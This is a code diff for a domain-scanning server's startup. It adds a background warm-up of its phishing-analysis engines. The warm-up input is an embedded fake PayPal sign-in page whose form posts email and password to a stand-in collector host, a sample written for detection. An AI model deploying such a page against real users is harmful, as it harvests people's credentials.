@@ -3,10 +3,12 @@ import pino from "pino";
 import { type Config, loadConfig } from "../config.js";
 import { findChromium } from "../engines/browser/index.js";
 import { defaultAsnLookup } from "../engines/net/asn.js";
+import { closeVision, warmVision } from "../engines/scan/vision/index.js";
 import { buildApp } from "../http/app.js";
 import { DEFAULT_ORG_CREDITS_MICROS } from "../platform/billing/prices.js";
 import { JobRuntime } from "../platform/jobs/index.js";
 import { microsToUsd } from "../platform/money.js";
+import { analyzeSavedPage } from "./analyze.js";
 import { closeServices, createLimiter, createServices, openConfiguredDatabase } from "./compose.js";
 
 export interface RunningServer {
@@ -88,6 +90,9 @@ export async function serve(
     services.classification.onCrawlQueued(() => local.notify());
     services.scans.onScanQueued(() => local.notify());
     runtime.start();
+    // The scan agents' tables, the vision agent's mark templates and its OCR worker load once, now, in the
+    // background, instead of stalling the first scan (about 1–2 s of CPU).
+    void warmScanEngines().catch((err: unknown) => logger.warn({ err }, "scan engines warm-up failed"));
     try {
       findChromium({ override: config.CHROMIUM_PATH });
     } catch (err) {
@@ -123,10 +128,22 @@ export async function serve(
       clearInterval(purge);
       if (app) await app.close();
       if (runtime) await runtime.stop(10_000);
+      await closeVision();
       await closeServices(services);
       logger.info("DomainLens stopped");
     })();
     return stopping;
   };
   return { config, app, url, stop };
+}
+
+/** A small sign-in page that touches every table the scan agents load on first use. */
+const WARM_UP_PAGE = `<!DOCTYPE html><html lang="en"><head><title>Sign in to your account</title></head>
+<body><h1>PayPal</h1><form action="https://collector.example.net/p.php" method="post">
+<input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>
+<p>Verify your account within 24 hours.</p></body></html>`;
+
+async function warmScanEngines(): Promise<void> {
+  await analyzeSavedPage({ url: "https://www.example.com/signin", html: WARM_UP_PAGE });
+  await warmVision();
 }
